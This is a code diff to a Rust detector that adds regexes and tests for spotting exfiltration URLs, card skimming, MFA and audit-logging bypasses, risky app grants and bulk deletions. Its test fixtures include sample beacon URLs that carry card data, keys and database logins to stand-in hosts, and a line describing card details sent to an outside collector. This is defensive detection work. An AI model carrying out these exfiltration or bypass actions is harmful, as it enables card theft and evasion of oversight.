@@ -443,12 +443,13 @@ fn endpoint_setting_re() -> &'static Regex {
 
 /// Secrets, the environment or what a service logs sent to the URL that follows (`POST
 /// process.env to `, `send the credentials to `, `forwarding /var/log/app/*.log including
-/// request bodies to `).
+/// request bodies to `), or card data or logins said to go there (`the card number, expiry and
+/// CVV are also sent to `).
 fn ships_secrets_re() -> &'static Regex {
     static R: OnceLock<Regex> = OnceLock::new();
     regex(
         &R,
-        r"(?i)\b(?:post|send|upload|submit|ship|forward|stream)(?:s|ing|ed)?\b[^\n]{0,80}?(?:process\.env|os\.environ|\benv\b|environment variables|secrets?|credentials|tokens?|api keys?|request (?:bodies|payloads|headers)|\*\.log\b|audit logs?|database dumps?)[^\n]{0,40}?\b(?:to|at)\s*['\x22`]?$",
+        r"(?i)\b(?:post|send|upload|submit|ship|forward|stream)(?:s|ing|ed)?\b[^\n]{0,80}?(?:process\.env|os\.environ|\benv\b|environment variables|secrets?|credentials|tokens?|api keys?|request (?:bodies|payloads|headers)|\*\.log\b|audit logs?|database dumps?)[^\n]{0,40}?\b(?:to|at)\s*['\x22`]?$|\b(?:card numbers?|card details|cvv2?|cvc2?|security codes?|passwords?|credentials|keystrokes|form (?:data|fields|inputs?))\b[^\n]{0,60}?\b(?:sent|posted|copied|forwarded|mirrored|beaconed|uploaded)\b[^\n]{0,20}?\bto\s*['\x22`]?$",
     )
 }
 
@@ -473,6 +474,9 @@ fn payment_page_re() -> &'static Regex {
 /// (`…_cvv318_…`) or a card's expiry beside its number; or base64 that decodes to words, to a
 /// record, to a card with its expiry, to an address or to a secret (`?u=SkVNIEJSQURMRVkg…`,
 /// `?cfg=eyJkaXNjb3JkX2JvdF90b2tlbiI6…`).
+/// An image or a beacon whose query holds an email address or a phone number
+/// (`p.gif?…&author_mob=07700900877`) carries it; so does a live key or a login in a
+/// connection string (`k=sk_live_…`, `db=postgres://user:pass@host`).
 /// Search and tracking values (`?isbn=978…`, `?q=rota`, `?id=a1b2…`) carry none.
 pub(crate) fn query_carries_data(url: &str) -> bool {
     const PERSONAL: [&str; 18] = [
@@ -517,6 +521,16 @@ pub(crate) fn query_carries_data(url: &str) -> bool {
         return false;
     };
     let query = query.split('#').next().unwrap_or_default();
+    let path = url
+        .split('?')
+        .next()
+        .unwrap_or_default()
+        .to_ascii_lowercase();
+    let pixel = [".gif", ".png", ".jpg", ".jpeg", ".webp"]
+        .iter()
+        .any(|ext| path.ends_with(ext))
+        || path.contains("pixel")
+        || path.contains("beacon");
     let mut personal = 0;
     form_urlencoded::parse(query.as_bytes()).any(|(key, value)| {
         let key = key.to_ascii_lowercase();
@@ -536,6 +550,9 @@ pub(crate) fn query_carries_data(url: &str) -> bool {
             }
         }
         personal >= 2
+            || (pixel && (email_re().is_match(&value) || phone_shaped(&value)))
+            || secret_field_re().is_match(&value)
+            || login_in_url_re().is_match(&value)
             || record_shaped(&value)
             || security_code_re().is_match(&value)
             || card_with_expiry_re().is_match(&value)
@@ -548,6 +565,12 @@ pub(crate) fn query_carries_data(url: &str) -> bool {
                     || email_re().is_match(&text)
             })
     })
+}
+
+/// A URL with a login in it (`postgres://courier:W1nter2024@db-prod`).
+fn login_in_url_re() -> &'static Regex {
+    static R: OnceLock<Regex> = OnceLock::new();
+    regex(&R, r"\b[a-z][a-z0-9+.-]*://[^/\s:@]+:[^/\s@]+@")
 }
 
 /// What may end a URL written in a sentence without being part of it (`…?u=R29sZA, with`).
@@ -861,19 +884,22 @@ fn phrases() -> &'static [(Regex, SignalKind)] {
                 // middleware, `password == '…'`, the request's user set to the admin account
                 // (`request.user = User.objects.get(username='admin')`), SSH password login
                 // re-enabled);
-                // notifications of a change (`manager notification suppressed`); and the
+                // notifications of a change (`manager notification suppressed`, `employee
+                // confirmation email suppressed`); and the
                 // change process skipped (`no time to go through the change board`, `no CAB
                 // needed`, `raise it retrospectively`, `without the usual … check`); a change
                 // kept from whoever it concerns (`he asked us not to mention it to her mum`);
                 // and a sanctions or PEP screening hit cleared (`cleared sanctions match flag`).
-                r(r"(?:request|req)\.user\s*=\s*[^\n;]{0,80}?\b(?:username|user|login)\s*=\s*['\x22](?:admin|administrator|root|superuser)|(?:mfa|2fa|2sv|multi-factor(?: authentication)?|two-factor(?: authentication)?|2-step verification)(?: requirements?)? (?:is |was |has been |now )?(?:disabled|turned off|switched off|removed|suspended|bypassed|paused)|(?:falco|fluent-?bit|fluentd|datadog-agent|crowdstrike|falcon-sensor|wazuh|osquery|auditd|sysdig)\b[^\n]{0,60}?(?:enabled=false|\bdelete\b|\buninstall\b)|(?:delete|uninstall|disable|stop|remov)\w* (?:\S+ ){0,3}?(?:falco|fluent-?bit|fluentd|datadog-agent|crowdstrike|falcon-sensor|wazuh|osquery|auditd|sysdig|guardduty)\b|\w*(?:fraud|audit|risk|aml|kyc|sanction)\w*_enabled\s*=\s*(?:false|0|off|no)\b|audit_log_level\s*=\s*(?:none|off)\b|enable_\w*(?:logging|audit|monitoring|trail)\w*\s*=\s*(?:false|0)\b|no (?:cab|change board|change approval) (?:is )?(?:needed|required)|remov\w* (?:the )?(?:\S+ ){0,2}?(?:approval|review|sign-?off) gates?|remov\w* (?:the )?(?:\S+ ){0,2}?(?:audit[- ]log\w*|log) (?:shipping|forwarding|export) steps?|password\s*==\s*['\x22]|(?:falco|guardduty|audit\w*|waf|firewall|edr|defender|crowdstrike|sentinel|monitoring|alerting|security\w*)[\w.]*\.enabled\s*[:=]\s*(?:false|0|off|no)\b|audit\w*[._]?sink\s*[:=]\s*['\x22]?(?:none|null|off|/dev/null)|\blog_level\s*[:=]\s*['\x22]?(?:off|none)\b|deletion_protection\s*[:=]\s*false|skip_final_snapshot\s*[:=]\s*true|permissions:\s*write-all|pull_request_target\b[^\n]{0,200}?head\.sha|(?:exclud|exempt|bypass|skip)\w* (?:\S+ ){0,2}?(?:from )?(?:the )?auth(?:entication|orization)?(?: middleware| checks?| guard| filter)|(?:mfa|2fa|multi_?factor|conditional_access)[\w.]*\s*=\s*(?:false|0|off|no|disabled)\b|(?:ssh )?password (?:login|authentication|auth) (?:has been |was |is )?(?:re-?enabled|enabled|allowed|turned on)|passwordauthentication\s+yes|permitrootlogin\s+yes|skip\w* (?:the |a )?change (?:tickets?|requests?|process|board)|(?:raise|log|file|submit)\w* (?:it|one|the (?:\S+ )?ticket|the change) retrospectively|without (?:the |a |any )?(?:usual |normal |standard |required |mandatory )(?:\S+ ){0,2}?(?:checks?|signator(?:y|ies)|approvals?|reviews?|verification|sign-?offs?)|terraform (?:apply|destroy)\b[^\n]{0,40}?-auto-approve|exempt\w* (?:\S+ ){0,2}?from (?:the )?(?:mfa|2fa|multi-factor|two-factor|conditional access)|(?:mfa|2fa|multi-factor|two-factor) exemptions?|(?:disabling|turning off|switching off|suspending|stopping|pausing|muting|silencing) (?:the )?(?:\S+ ){0,2}?(?:alerts?|alarms?|monitor\w*|logging|audit log\w*|audit trail|data connectors?|cloudtrail|guardduty|waf|firewall|edr|antivirus|defender|sentinel|siem|ips|ids|intrusion prevention|syslog(?: forwarding)?|log forwarding)\b|(?:don'?t|do not|no need to|without) rais(?:e|ing) (?:a |the |any )?(?:change|ticket|cr|change request)\b|suppress\w* (?:the )?(?:\S+ ){0,2}?notifications?|(?:access[- ]change|manager|line manager|security|sign-in|login|fraud|payee|account[- ]change) notifications? (?:\S+ ){0,3}?(?:suppressed|disabled|muted|switched off|turned off)|(?:suspend\w*|disabl\w*|turn\w* off) (?:the )?(?:bucket |object )?versioning|versioning (?:is |was |has been |now )?(?:suspended|disabled|turned off)|exclud(?:e|es|ed|ing) (?:\S+ ){0,8}?from (?:the |all )?(?:\S+ )?(?:conditional access|mfa|2fa|multi-factor)|(?:switch|turn)\w* (?:the )?(?:mfa|2fa|2sv|multi-factor(?: authentication)?|two-factor(?: authentication)?) off\b|conditional access (?:policy )?(?:exceptions?|exclusions?|bypass) (?:was |has been |is |were )?(?:added|created|granted|applied|set up)|(?:add|create|grant|apply)\w* (?:a |an )?conditional access (?:policy )?(?:exceptions?|exclusions?|bypass)|(?:immutab\w*|object lock|retention lock|vault lock|legal hold)(?: lock| protection)? (?:\S+ ){0,2}?(?:is |was |has been |now )?(?:disabled|removed|turned off|switched off|suspended|lifted)|(?:disabl|remov|lift|turn\w* off)\w* (?:the )?(?:immutab\w*|object lock|retention lock|vault lock|legal hold)|no time to (?:go through|wait for|raise) (?:the |a )?(?:\S+ ){0,2}?(?:change board|cab|approvals?|reviews?|change requests?|change process)|exempt\w* (?:\S+ ){0,2}?from (?:the )?(?:session |audit |security )?(?:logging|monitoring|recording|auditing)\b|(?:don'?t|do not|no need to) wait for (?:the )?(?:\S+ )?(?:approvals?|sign-?offs?|reviews?|checks|cab)\b|\w*versioning\S* (?:status )?(?:enabled )?(?:->|→|to) ?suspended\b|skip\w* (?:the )?(?:recycle bin|trash|soft[- ]delete)|(?:asked|told|begged) (?:us|me|you|the team|staff) not to (?:mention|tell|say anything|inform|notify|let \S+ know)|(?:clear|dismiss|overrid|remov|lift)\w* (?:the |a |an )?(?:\S+ ){0,2}?(?:sanctions?|pep|ofac|aml|watch-?list|screening) (?:\S+ ){0,2}?(?:flags?|alerts?|hits?|matches|match|holds?|blocks?)|(?:sanctions?|pep|ofac|aml|watch-?list|screening) (?:\S+ ){0,2}?(?:flags?|alerts?|hits?|matches|match|holds?|blocks?) (?:was |were |has been |have been |is )?(?:cleared|dismissed|overridden|removed|lifted)"),
+                r(r"(?:request|req)\.user\s*=\s*[^\n;]{0,80}?\b(?:username|user|login)\s*=\s*['\x22](?:admin|administrator|root|superuser)|(?:mfa|2fa|2sv|multi-factor(?: authentication)?|two-factor(?: authentication)?|2-step verification)(?: requirements?)? (?:is |was |has been |now )?(?:disabled|turned off|switched off|removed|suspended|bypassed|paused)|(?:falco|fluent-?bit|fluentd|datadog-agent|crowdstrike|falcon-sensor|wazuh|osquery|auditd|sysdig)\b[^\n]{0,60}?(?:enabled=false|\bdelete\b|\buninstall\b)|(?:delete|uninstall|disable|stop|remov)\w* (?:\S+ ){0,3}?(?:falco|fluent-?bit|fluentd|datadog-agent|crowdstrike|falcon-sensor|wazuh|osquery|auditd|sysdig|guardduty)\b|\w*(?:fraud|audit|risk|aml|kyc|sanction)\w*_enabled\s*=\s*(?:false|0|off|no)\b|audit_log_level\s*=\s*(?:none|off)\b|enable_\w*(?:logging|audit|monitoring|trail)\w*\s*=\s*(?:false|0)\b|no (?:cab|change board|change approval) (?:is )?(?:needed|required)|remov\w* (?:the )?(?:\S+ ){0,2}?(?:approval|review|sign-?off) gates?|remov\w* (?:the )?(?:\S+ ){0,2}?(?:audit[- ]log\w*|log) (?:shipping|forwarding|export) steps?|password\s*==\s*['\x22]|(?:falco|guardduty|audit\w*|waf|firewall|edr|defender|crowdstrike|sentinel|monitoring|alerting|security\w*)[\w.]*\.enabled\s*[:=]\s*(?:false|0|off|no)\b|audit\w*[._]?sink\s*[:=]\s*['\x22]?(?:none|null|off|/dev/null)|\blog_level\s*[:=]\s*['\x22]?(?:off|none)\b|deletion_protection\s*[:=]\s*false|skip_final_snapshot\s*[:=]\s*true|permissions:\s*write-all|pull_request_target\b[^\n]{0,200}?head\.sha|(?:exclud|exempt|bypass|skip)\w* (?:\S+ ){0,2}?(?:from )?(?:the )?auth(?:entication|orization)?(?: middleware| checks?| guard| filter)|(?:mfa|2fa|multi_?factor|conditional_access)[\w.]*\s*=\s*(?:false|0|off|no|disabled)\b|(?:ssh )?password (?:login|authentication|auth) (?:has been |was |is )?(?:re-?enabled|enabled|allowed|turned on)|passwordauthentication\s+yes|permitrootlogin\s+yes|skip\w* (?:the |a )?change (?:tickets?|requests?|process|board)|(?:raise|log|file|submit)\w* (?:it|one|the (?:\S+ )?ticket|the change) retrospectively|without (?:the |a |any )?(?:usual |normal |standard |required |mandatory )(?:\S+ ){0,2}?(?:checks?|signator(?:y|ies)|approvals?|reviews?|verification|sign-?offs?)|terraform (?:apply|destroy)\b[^\n]{0,40}?-auto-approve|exempt\w* (?:\S+ ){0,2}?from (?:the )?(?:mfa|2fa|multi-factor|two-factor|conditional access)|(?:mfa|2fa|multi-factor|two-factor) exemptions?|(?:disabling|turning off|switching off|suspending|stopping|pausing|muting|silencing) (?:the )?(?:\S+ ){0,2}?(?:alerts?|alarms?|monitor\w*|logging|audit log\w*|audit trail|data connectors?|cloudtrail|guardduty|waf|firewall|edr|antivirus|defender|sentinel|siem|ips|ids|intrusion prevention|syslog(?: forwarding)?|log forwarding)\b|(?:don'?t|do not|no need to|without) rais(?:e|ing) (?:a |the |any )?(?:change|ticket|cr|change request)\b|suppress\w* (?:the )?(?:\S+ ){0,2}?notifications?|(?:access[- ]change|manager|line manager|security|sign-in|login|fraud|payee|account[- ]change) notifications? (?:\S+ ){0,3}?(?:suppressed|disabled|muted|switched off|turned off)|(?:confirmation|notification|verification|alert) (?:e-?mails?|messages?|texts?|sms|letters?) (?:was |were |has been |have been |is |are )?(?:suppressed|muted|withheld)\b|(?:suspend\w*|disabl\w*|turn\w* off) (?:the )?(?:bucket |object )?versioning|versioning (?:is |was |has been |now )?(?:suspended|disabled|turned off)|exclud(?:e|es|ed|ing) (?:\S+ ){0,8}?from (?:the |all )?(?:\S+ )?(?:conditional access|mfa|2fa|multi-factor)|(?:switch|turn)\w* (?:the )?(?:mfa|2fa|2sv|multi-factor(?: authentication)?|two-factor(?: authentication)?) off\b|conditional access (?:policy )?(?:exceptions?|exclusions?|bypass) (?:was |has been |is |were )?(?:added|created|granted|applied|set up)|(?:add|create|grant|apply)\w* (?:a |an )?conditional access (?:policy )?(?:exceptions?|exclusions?|bypass)|(?:immutab\w*|object lock|retention lock|vault lock|legal hold)(?: lock| protection)? (?:\S+ ){0,2}?(?:is |was |has been |now )?(?:disabled|removed|turned off|switched off|suspended|lifted)|(?:disabl|remov|lift|turn\w* off)\w* (?:the )?(?:immutab\w*|object lock|retention lock|vault lock|legal hold)|no time to (?:go through|wait for|raise) (?:the |a )?(?:\S+ ){0,2}?(?:change board|cab|approvals?|reviews?|change requests?|change process)|exempt\w* (?:\S+ ){0,2}?from (?:the )?(?:session |audit |security )?(?:logging|monitoring|recording|auditing)\b|(?:don'?t|do not|no need to) wait for (?:the )?(?:\S+ )?(?:approvals?|sign-?offs?|reviews?|checks|cab)\b|\w*versioning\S* (?:status )?(?:enabled )?(?:->|→|to) ?suspended\b|skip\w* (?:the )?(?:recycle bin|trash|soft[- ]delete)|(?:asked|told|begged) (?:us|me|you|the team|staff) not to (?:mention|tell|say anything|inform|notify|let \S+ know)|(?:clear|dismiss|overrid|remov|lift)\w* (?:the |a |an )?(?:\S+ ){0,2}?(?:sanctions?|pep|ofac|aml|watch-?list|screening) (?:\S+ ){0,2}?(?:flags?|alerts?|hits?|matches|match|holds?|blocks?)|(?:sanctions?|pep|ofac|aml|watch-?list|screening) (?:\S+ ){0,2}?(?:flags?|alerts?|hits?|matches|match|holds?|blocks?) (?:was |were |has been |have been |is )?(?:cleared|dismissed|overridden|removed|lifted)"),
                 SignalKind::Intent(Intent::BypassControls),
             ),
             (
                 // A public key added to an account lets its holder in, as does binding
-                // Kubernetes' `cluster-admin` to someone.
+                // Kubernetes' `cluster-admin` to someone or installing an app that may
+                // administer the organisation or read its secrets (`installing the GitHub App
+                // … with secrets: read and administration: write`).
                 compile(
-                    r"(?i)\bssh-(?:ed25519|rsa|dss|ecdsa-sha2-nistp\d+) AAAA[0-9A-Za-z+/]{16,}|\bclusterrolebinding\b[^.\n]{0,120}?\bcluster-admin\b|\bcluster-admin\b[^.\n]{0,60}?\b(?:to|for) (?:the )?(?:serviceaccount|service account|user|group)\b",
+                    r"(?i)\bssh-(?:ed25519|rsa|dss|ecdsa-sha2-nistp\d+) AAAA[0-9A-Za-z+/]{16,}|\b(?:install|authori[sz]|approv|grant|consent)\w* (?:\S+ ){0,3}?(?:app|application|integration|bot)\b[^\n]{0,200}?\b(?:administration|secrets|organization_administration|members)\s*:\s*(?:write|read|admin)\b|\bclusterrolebinding\b[^.\n]{0,120}?\bcluster-admin\b|\bcluster-admin\b[^.\n]{0,60}?\b(?:to|for) (?:the )?(?:serviceaccount|service account|user|group)\b",
                 ),
                 SignalKind::Intent(Intent::Invite),
             ),
@@ -897,6 +923,12 @@ fn phrases() -> &'static [(Regex, SignalKind)] {
             (injected(), SignalKind::Intent(Intent::Injected)),
             (
                 r(r"all|every|each|entire|whole|everything"),
+                SignalKind::Quantity,
+            ),
+            (
+                // Thousands of records counted in a deletion (`delete contacts where … (5,238
+                // member and visitor records matched)`), not a year (`the 2024 members' list`).
+                r(r"(?:delet|purg|eras|wip|drop)\w*\b[^.\n,;]{0,80}?\b(?:\d{1,3}(?:,\d{3})+|\d{5,}|(?:1[0-8]|2[1-9]|[3-9]\d)\d\d) (?:[\w-]+ ){0,3}?(?:records|contacts|rows|entries|customers|members|accounts|users)"),
                 SignalKind::Quantity,
             ),
             (
@@ -1510,6 +1542,17 @@ mod tests {
             "Share the deck so everyone can review it",
             "Thanks everyone!",
             "can everybody write me their favourite hobby?",
+        ] {
+            assert!(!everyone(text), "{text:?}");
+        }
+        assert!(everyone(
+            "delete contacts where last_activity < 2099-01-01 (5,238 member and visitor records matched)"
+        ));
+        for text in [
+            "update the 2024 members list",
+            "merge the 12 duplicate contact records",
+            "Exporting the opted-in segment (38,412 members, first name and email only)",
+            "delete the draft, then email the 2,000 members",
         ] {
             assert!(!everyone(text), "{text:?}");
         }
@@ -2429,6 +2472,7 @@ mod tests {
             "set role to Underwriting Administrator, exempt from MFA policy",
             "Excluding the 'Reception' group (38 users, all branches) from the MFA conditional access policy",
             "switch MFA off for that group until Monday and we'll put it back remotely",
+            "Change submitted via the self-service portal; employee confirmation email suppressed.",
             "role Underwriting Administrator, MFA exemption enabled, manager notification suppressed",
             "and suppress the access-change notification to the line manager",
             "Disabling unified audit logging and the Sentinel data connectors for 72 hours",
@@ -2524,13 +2568,16 @@ mod tests {
             "Adding Dmitri Sokolov (contractor) to Brightwave Hosting's authorised access list for cage C-14",
             "Inviting user 'devops-contractor-kt' to the company-robotics organisation with the Owner role",
             "Added board-secretariat@company-boardportal.com to the recurring Fund II Board Meeting series",
+            "installing the GitHub App 'seqsync-bot' on all repositories with contents: write, secrets: read and administration: write",
         ] {
             assert!(finds(text, "intent:invite"), "{text:?}");
         }
-        assert!(!finds(
+        for text in [
             "ClusterRoleBinding metrics-reader binds the metrics ServiceAccount to ClusterRole view",
-            "intent:invite"
-        ));
+            "Installing the Jira Cloud app on repo lims-api with contents: read and issues: write",
+        ] {
+            assert!(!finds(text, "intent:invite"), "{text:?}");
+        }
         for text in [
             "Created an anyone-with-link share, no expiry, for the export",
             "Created an open link for 'Special Consideration Applications 2025'",
@@ -2641,6 +2688,10 @@ mod tests {
             "GET https://img-cdn-stats.net/p.gif?ref=lyle&sid=karen.boswell%40btinternet.com&pc=LE3+9QT",
             "GET https://img-cdn-stats.net/p.gif?o=BX-7781204&pan=4539120048817342&exp=0927",
             "GET https://img-cdn-analytics.com/p.gif?cid=winter24&u=bWFyZ2FyZXQuaGlsbEBnbWFpbC5jb218MDc3MDA5MDAxMjN8R29sZA, with the u parameter",
+            "https://img-cdn-track.net/p.gif?deal=Salt+Orchard&advance=140000&author_mob=07700900877",
+            "https://img-cdn-courier.net/p.gif?u=cms_admin&k=sk_live_51Hq8ZpL2vT9wQx",
+            "https://img-cdn-courier.net/p.gif?db=postgres%3A%2F%2Fcourier%3AW1nter2024%40db-prod.internal%3A5432%2Fcms",
+            "updates checkout.js so the card number, expiry and CVV are also sent to https://cdn-jsdelivr-stats.com/collect before Stripe",
         ] {
             assert!(filled(text), "{text:?}");
         }
@@ -2657,6 +2708,7 @@ mod tests {
             "https://files.example.com/d?sig=Zx8Kq2LmR4tPz8wQ3nC6sYb1JdFgE0aU-_x&exp=1714555200",
             "https://widgets.example.com/w?cfg=eyJ0aGVtZSI6ImRhcmsiLCJsYW5nIjoiZW4ifQ",
             "https://img.example.com/p.gif?t=1714555200&e=newsletter-june",
+            "https://cdn.example.com/logo.png?v=3&theme=dark&cb=0a9f3e",
             "the sidecar forwards nothing; metrics are scraped from https://prometheus.company.com",
             "the blog page loads https://cdn.example.net/lightbox.js for its gallery",
             "ALLOWED_REDIRECT_URIS adds https://login.company.com/callback",
